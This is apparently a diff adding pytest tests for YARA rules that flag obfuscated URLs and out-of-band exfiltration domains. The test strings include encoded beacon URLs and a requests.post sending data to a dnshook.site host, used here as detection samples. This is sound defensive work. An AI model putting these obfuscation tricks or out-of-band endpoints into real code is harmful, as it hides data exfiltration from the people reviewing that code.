@@ -1,0 +1,52 @@
+"""rules/yara/signals/signals.yar: encoded or assembled endpoints, out-of-band destinations."""
+
+from __future__ import annotations
+
+import base64
+
+import pytest
+from yara_pack import compile_pack
+
+
+@pytest.fixture(scope="module")
+def pack():
+    return compile_pack()
+
+
+def rules_hit(pack, text: str) -> set[str]:
+    return {m.rule for m in pack.match(data=text.encode())}
+
+
+@pytest.mark.parametrize("text", [
+    "u = 'aHR0cHM6Ly9iZWFjb24uZXhhbXBsZS5pbnZhbGlk'\n",
+    "u = b64decode('{}')\n".format(base64.b64encode(b"xxhttps://beacon.example.invalid/p").decode()),
+    "u = bytes.fromhex('68747470733a2f2f6578616d706c652e696e76616c6964')\n",
+    "u = 'ht' + 'tps://' + host\n",
+    "u = ''.join(chr(c) for c in [104, 116, 116, 112, 115, 58])\n",
+    "u = '//:sptth'[::-1]\n",
+])
+def test_encoded_endpoint_hits(pack, text):
+    assert "encoded_endpoint" in rules_hit(pack, text)
+
+
+@pytest.mark.parametrize("text", [
+    "u = 'https://example.invalid/docs'\n",
+    "data = base64.b64encode(b'hello world')\n",
+])
+def test_encoded_endpoint_misses_plain_urls(pack, text):
+    assert "encoded_endpoint" not in rules_hit(pack, text)
+
+
+@pytest.mark.parametrize("text", [
+    "requests.get('https://oastify.com/?x=1')\n",
+    "u = 'abc123.oast.cz'\n",
+    "requests.post('https://0f0f.dnshook.site', json=d)\n",
+    "u = 'http://canarytokens.com/images/x'\n",
+])
+def test_oob_destination_hits_apex_and_subdomains(pack, text):
+    assert "oob_destination_domain" in rules_hit(pack, text)
+
+
+@pytest.mark.parametrize("text", ["u = 'https://toast.fun.example.invalid'\n", "u = 'https://pipedream.com/docs'\n"])
+def test_oob_destination_misses_lookalikes(pack, text):
+    assert "oob_destination_domain" not in rules_hit(pack, text)
